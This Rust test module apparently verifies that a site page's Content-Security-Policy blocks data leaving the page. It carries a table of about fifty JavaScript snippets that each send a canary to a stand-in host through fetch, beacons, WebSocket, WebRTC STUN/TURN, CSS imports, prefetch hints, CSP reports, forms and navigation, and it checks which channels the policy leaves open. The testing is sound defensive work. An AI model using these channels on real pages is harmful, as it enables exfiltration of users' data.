//! Every way by which a script in the page could send something away, tried, with and without the page's policy.
//!
//! Each way has a foreign address of its own, so that whatever arrives there (a request, a bare connection, a datagram)
//! tells which way it came. Without the policy most ways are open, which shows that the trial is a trial.

use std::collections::{BTreeMap, BTreeSet};
use std::io::{Read, Write};
use std::net::{TcpListener, UdpSocket};
use std::path::Path;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use serde_json::json;

use crate::harness::{Browser, Engine, Folder, PATIENCE, Site, dist, engine, files, pause, say};

/// A way out: its name, and a script in which `HTTP` is a foreign address, `HTTPS` the same for what wants that,
/// `HOST` its host and port.
struct Way {
    name: &'static str,
    script: &'static str,
    /// Whether it leaves the page, so that the next way needs a new one.
    leaves: bool,
}

const fn way(name: &'static str, script: &'static str) -> Way {
    Way { name, script, leaves: false }
}

const fn leaving(name: &'static str, script: &'static str) -> Way {
    Way { name, script, leaves: true }
}

static WAYS: &[Way] = &[
    // Requests by script.
    way("fetch", "fetch('HTTP/?canary')"),
    way(
        "fetch without an answer",
        "fetch('HTTP/?canary', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'canary' })",
    ),
    way("XMLHttpRequest", "{ const it = new XMLHttpRequest(); it.open('POST', 'HTTP/?canary'); it.send('canary'); }"),
    way("beacon", "navigator.sendBeacon('HTTP/?canary', 'canary')"),
    way("web socket", "new WebSocket('ws://HOST/?canary')"),
    way("event source", "new EventSource('HTTP/?canary')"),
    way("web transport", "new WebTransport('HTTPS/?canary')"),
    way(
        "peer connection",
        "{ const it = new RTCPeerConnection({ iceServers: [{ urls: 'stun:HOST' }] }); it.createDataChannel('canary'); it.createOffer().then(offer => it.setLocalDescription(offer)); }",
    ),
    way(
        "peer connection by TCP",
        "{ const it = new RTCPeerConnection({ iceServers: [{ urls: 'turn:HOST?transport=tcp', username: 'canary', credential: 'canary' }] }); it.createDataChannel('canary'); it.createOffer().then(offer => it.setLocalDescription(offer)); }",
    ),
    // Pictures, sounds, frames.
    way("image", "new Image().src = 'HTTP/?canary'"),
    way("image by size", "new Image().srcset = 'HTTP/?canary 1x'"),
    way(
        "picture",
        "{ const it = add('picture'); it.append(make('source', { srcset: 'HTTP/?canary' }), make('img')); }",
    ),
    way(
        "image of an SVG",
        "{ const it = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); const image = document.createElementNS('http://www.w3.org/2000/svg', 'image'); image.setAttribute('href', 'HTTP/?canary'); it.append(image); document.body.append(it); }",
    ),
    way(
        "reference of an SVG",
        "{ const it = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); const use = document.createElementNS('http://www.w3.org/2000/svg', 'use'); use.setAttribute('href', 'HTTP/?canary#it'); it.append(use); document.body.append(it); }",
    ),
    way("input of a picture", "add('input', { type: 'image', src: 'HTTP/?canary' })"),
    way("background attribute", "document.body.setAttribute('background', 'HTTP/?canary')"),
    way("video", "add('video', { src: 'HTTP/?canary', preload: 'auto' }).load()"),
    way("poster", "add('video', { poster: 'HTTP/?canary' })"),
    way("audio", "add('audio', { src: 'HTTP/?canary', preload: 'auto' }).load()"),
    way(
        "track",
        "{ const it = add('video', { crossOrigin: 'anonymous' }); const track = make('track', { kind: 'subtitles', src: 'HTTP/?canary', default: true }); it.append(track); track.track.mode = 'showing'; }",
    ),
    way("object", "add('object', { data: 'HTTP/?canary' })"),
    way("embed", "add('embed', { src: 'HTTP/?canary' })"),
    way("frame", "add('iframe', { src: 'HTTP/?canary' })"),
    way("frame of its own text", "{ const it = add('iframe'); it.srcdoc = '<img src=\"HTTP/?canary\">'; }"),
    // Styles and fonts.
    way("style of an element", "document.body.style.backgroundImage = 'url(HTTP/?canary)'"),
    way(
        "style sheet made by script",
        "{ const it = new CSSStyleSheet(); it.replaceSync('main { background: url(HTTP/?canary) }'); document.adoptedStyleSheets = [it]; }",
    ),
    way(
        "style within the page",
        "{ const it = make('style'); it.append('header { background: url(HTTP/?canary) }'); document.head.append(it); }",
    ),
    way(
        "import of a style",
        "{ const it = make('style'); it.append('@import \"HTTP/?canary\";'); document.head.append(it); }",
    ),
    way("style sheet", "document.head.append(make('link', { rel: 'stylesheet', href: 'HTTP/?canary' }))"),
    way("font", "new FontFace('canary', 'url(HTTP/?canary)').load()"),
    // Scripts and workers.
    way("script", "document.head.append(make('script', { src: 'HTTP/?canary' }))"),
    way("module", "import('HTTP/?canary')"),
    way("worker", "new Worker(URL.createObjectURL(new Blob([`fetch('HTTP/?canary')`])))"),
    way("shared worker", "new SharedWorker(URL.createObjectURL(new Blob([`fetch('HTTP/?canary')`])))"),
    // Hints to the browser.
    way("prefetch", "document.head.append(make('link', { rel: 'prefetch', href: 'HTTP/?canary' }))"),
    way("preload", "document.head.append(make('link', { rel: 'preload', as: 'image', href: 'HTTP/?canary' }))"),
    way("preload of a module", "document.head.append(make('link', { rel: 'modulepreload', href: 'HTTP/?canary' }))"),
    way("preconnect", "document.head.append(make('link', { rel: 'preconnect', href: 'HTTP/' }))"),
    way(
        "look-up of a name",
        "document.head.append(make('link', { rel: 'dns-prefetch', href: 'http://canary.test/' }))",
    ),
    way(
        "speculation",
        "{ const it = make('script', { type: 'speculationrules' }); it.append(JSON.stringify({ prefetch: [{ source: 'list', urls: ['HTTP/?canary'] }] })); document.head.append(it); }",
    ),
    way(
        "manifest",
        "{ document.querySelector('link[rel=manifest]')?.remove(); document.head.append(make('link', { rel: 'manifest', href: 'HTTP/?canary' })); }",
    ),
    way(
        "icon",
        "{ document.querySelectorAll('link[rel~=icon]').forEach(it => it.remove()); document.head.append(make('link', { rel: 'icon', href: 'HTTP/?canary' })); }",
    ),
    // A policy within the page cannot have its breaches reported.
    way(
        "report",
        "{ document.head.append(make('meta', { httpEquiv: 'Content-Security-Policy', content: \"img-src 'self'; report-uri HTTP/?canary\" })); new Image().src = 'http://canary.test/'; }",
    ),
    way("ping", "{ const it = add('a', { href: '#here', ping: 'HTTP/?canary' }); it.click(); }"),
    // What leaves the page, or opens another.
    leaving("form", "{ const it = add('form', { action: 'HTTP/?canary', method: 'post' }); it.submit(); }"),
    leaving(
        "form into a frame",
        "{ const frame = add('iframe', { name: 'canary' }); const it = add('form', { action: 'HTTP/?canary', target: 'canary' }); it.submit(); }",
    ),
    leaving("script as an address", "location.href = 'javascript:void(fetch(\"HTTP/?canary\"))'"),
    leaving(NAVIGATION, "location.href = 'HTTP/?canary'"),
    leaving("refresh", "document.head.append(make('meta', { httpEquiv: 'refresh', content: '0; url=HTTP/?canary' }))"),
    leaving("a link, clicked by script", "add('a', { href: 'HTTP/?canary' }).click()"),
    leaving(WINDOW, "window.open('HTTP/?canary')"),
];

const NAVIGATION: &str = "location";
const WINDOW: &str = "window.open";

/// The ways of going to another page. No policy of a page can forbid those: who goes there is the source's affair
/// (`tests/tidy.rs` reads it), and the user sees it.
const GOING: [&str; 4] = ["a link, clicked by script", NAVIGATION, "refresh", WINDOW];

/// What Chromium holds no policy of a page against: `webrtc 'block'` is in the standard and in no browser. Nothing that
/// is shipped may know these words, which is looked at, too.
const BEYOND: [&str; 3] = ["look-up of a name", "peer connection", "peer connection by TCP"];

/// How those are called in a program.
const WORDS: [&str; 5] = ["RTCPeerConnection", "dns-prefetch", "preconnect", "speculationrules", "WebTransport"];

/// Connections that Chromium makes in advance, before it looks at the policy; then it says nothing.
const BARE: [&str; 4] = ["form", "form into a frame", "frame", "preconnect"];

/// Listens at one address for each way, and notes which of them something comes to.
struct Sink {
    ports: Vec<u16>,
    /// Whether more came than a bare connection.
    reached: Arc<Mutex<BTreeMap<usize, bool>>>,
    done: Arc<AtomicBool>,
    thread: Option<JoinHandle<()>>,
}

impl Sink {
    fn open(many: usize) -> Sink {
        let both = || loop {
            let tcp = TcpListener::bind("127.0.0.1:0").expect("a free port");
            let port = tcp.local_addr().expect("an address").port();
            if let Ok(udp) = UdpSocket::bind(("127.0.0.1", port)) {
                tcp.set_nonblocking(true).expect("a listener that does not wait");
                udp.set_nonblocking(true).expect("a socket that does not wait");
                return (port, tcp, udp);
            }
        };
        let all: Vec<_> = (0..many).map(|_| both()).collect();
        let ports = all.iter().map(|it| it.0).collect();
        let (reached, done) = (Arc::new(Mutex::new(BTreeMap::new())), Arc::new(AtomicBool::new(false)));
        let (into, until) = (reached.clone(), done.clone());
        let thread = std::thread::spawn(move || {
            while !until.load(Ordering::Relaxed) {
                for (i, (_, tcp, udp)) in all.iter().enumerate() {
                    let note = |spoke: bool| *into.lock().expect("the list").entry(i).or_default() |= spoke;
                    if udp.recv_from(&mut [0; 2048]).is_ok() {
                        note(true);
                    }
                    while let Ok((mut stream, _)) = tcp.accept() {
                        let _ = stream.set_nonblocking(false);
                        let _ = stream.set_read_timeout(Some(Duration::from_millis(1500)));
                        note(stream.read(&mut [0; 2048]).is_ok_and(|it| it > 0));
                        let _ = stream.write_all(
                            b"HTTP/1.1 200 OK\r\naccess-control-allow-origin: *\r\ncontent-type: text/html\r\ncontent-length: 2\r\nconnection: close\r\n\r\nok",
                        );
                    }
                }
                std::thread::sleep(Duration::from_millis(5));
            }
        });
        Sink { ports, reached, done, thread: Some(thread) }
    }

    fn script(&self, i: usize) -> String {
        let host = format!("127.0.0.1:{}", self.ports[i]);
        let script = WAYS[i].script.replace("HTTPS", &format!("https://{host}"));
        script.replace("HTTP", &format!("http://{host}")).replace("HOST", &host)
    }

    /// The ways by which something was said, or by which a connection was made at all.
    fn reached(&self, spoke: bool) -> BTreeSet<&'static str> {
        let reached = self.reached.lock().expect("the list");
        reached.iter().filter(|(_, it)| **it || !spoke).map(|(i, _)| WAYS[*i].name).collect()
    }
}

impl Drop for Sink {
    fn drop(&mut self) {
        self.done.store(true, Ordering::Relaxed);
        let _ = self.thread.take().map(JoinHandle::join);
    }
}

/// Tries every way on a page of this site, and tells by which something was said, and by which others a connection was
/// made that said nothing.
async fn try_all(dist: &Path, bare: bool) -> (BTreeSet<&'static str>, BTreeSet<&'static str>) {
    let (profile, notes) = (Folder::new("profile"), Folder::new("notes"));
    let net_log = notes.path().join("net.json");
    let site = Site::serve(dist);
    let flags = json!([format!("--log-net-log={}", net_log.display()), "--disable-popup-blocking"]);
    let browser = Browser::with(&profile, flags).await;
    let sink = Sink::open(WAYS.len());
    let page = format!("{}ck-grade/", site.url);
    let fresh = async || {
        browser.open(&page).await;
        let policy = browser.js("!!document.querySelector('meta[http-equiv=Content-Security-Policy]')").await;
        assert_eq!(policy, !bare, "the page has the wrong policy");
        browser
            .js("(() => {
                window.make = (tag, attributes = {}) => Object.assign(document.createElement(tag), attributes);
                window.add = (tag, attributes) => { const it = make(tag, attributes); document.body.append(it); return it; };
                addEventListener('unhandledrejection', it => it.preventDefault());
                return true;
            })()")
            .await;
    };
    fresh().await;
    let (stay, leave): (Vec<usize>, Vec<usize>) = (0..WAYS.len()).partition(|i| !WAYS[*i].leaves);
    for i in stay {
        // What a policy forbids may throw at once.
        let _ = browser.js(&format!("(() => {{ try {{ {}; }} catch {{}} return true; }})()", sink.script(i))).await;
    }
    // Until nothing has come for a while: this machine may be busy.
    let mut last = (0, 0);
    // The ways that no policy closes are waited for; a look-up is told by the browser's own notes.
    let open = |it: &&str| browser.engine() != Engine::Chromium || *it == BEYOND[0] || sink.reached(true).contains(*it);
    let start = Instant::now();
    while last.1 < 15 || !(BEYOND.iter().all(open) || start.elapsed() > PATIENCE) {
        pause(100).await;
        let now = sink.reached(false).len();
        last = if now == last.0 { (now, last.1 + 1) } else { (now, 0) };
    }
    for i in leave {
        fresh().await;
        let _ = browser.try_js(&format!("(() => {{ try {{ {}; }} catch {{}} return true; }})()", sink.script(i))).await;
        // What is open arrives; what is closed has its time.
        let most = match (GOING.contains(&WAYS[i].name), bare) {
            (true, _) => 600,
            (_, true) => 50,
            _ => 5,
        };
        for _ in 0..most {
            pause(100).await;
            if sink.reached(true).contains(WAYS[i].name) {
                break;
            }
        }
    }
    let browser_engine = browser.engine();
    browser.quit().await;
    let (mut out, connected) = (sink.reached(true), sink.reached(false));
    // A name that was looked up reaches nobody here; the browser's own notes tell.
    let notes = std::fs::read_to_string(&net_log).unwrap_or_default();
    let told = notes.contains(&site.port().to_string());
    assert_eq!(told, browser_engine == Engine::Chromium, "the browser took no notes");
    if notes.contains("canary.test") && WAYS.iter().any(|it| it.name == "look-up of a name") {
        out.insert("look-up of a name");
    }
    let connected = connected.difference(&out).copied().collect();
    (out, connected)
}

pub async fn closed() -> String {
    let dist = dist();
    let bare = Folder::copy_of(&dist);
    let page = bare.path().join("ck-grade/index.html");
    let html = std::fs::read_to_string(&page).expect("a page");
    let at = html.find("<meta http-equiv=\"Content-Security-Policy\"").expect("a policy");
    let end = at + html[at..].find('>').expect("its end") + 1;
    std::fs::write(&page, format!("{}{}", &html[..at], &html[end..])).expect("a page without a policy");
    // The worker would give the true page, which it has from elsewhere.
    std::fs::remove_file(bare.path().join("sw.js")).expect("a worker");

    let (open, _) = try_all(bare.path(), true).await;
    let (out, connected) = try_all(&dist, false).await;
    let dead: Vec<&str> = WAYS.iter().map(|it| it.name).filter(|it| !open.contains(it)).collect();
    say(&format!("ways out: closed even without the policy: {}", dead.join(", ")));
    say(&format!("ways out: with it a connection is made that says nothing: {connected:?}"));
    let expected: BTreeSet<&str> = GOING.into_iter().chain(BEYOND).collect();
    if engine() == Engine::Chromium {
        assert!(open.len() >= 40, "without the policy only {open:?} are open, and not {dead:?}");
        assert_eq!(out, expected, "what gets out of a page with its policy");
    } else {
        // They know fewer ways.
        assert!(open.len() >= 30, "without the policy only {open:?} are open, and not {dead:?}");
        assert!(out.is_subset(&expected), "what gets out of a page with its policy: {out:?}");
    }
    // Whether a connection is made in advance is the browser's mood.
    assert!(connected.iter().all(|it| BARE.contains(it)), "{connected:?}");

    let mut read = 0;
    for (name, bytes) in files(&dist) {
        let holds = |word: &str| bytes.windows(word.len()).any(|at| at == word.as_bytes());
        for word in WORDS {
            assert!(!holds(word), "{name} knows {word}");
        }
        read += usize::from(holds("addEventListener"));
    }
    assert!(read >= 2, "no program was read");
    format!(
        "of {} ways out {} are open without the policy; with it {} ways of going to another page, and {} that the engine holds no policy against and nothing shipped knows",
        WAYS.len(),
        open.len(),
        GOING.iter().filter(|it| out.contains(*it)).count(),
        BEYOND.iter().filter(|it| out.contains(*it)).count()
    )
}
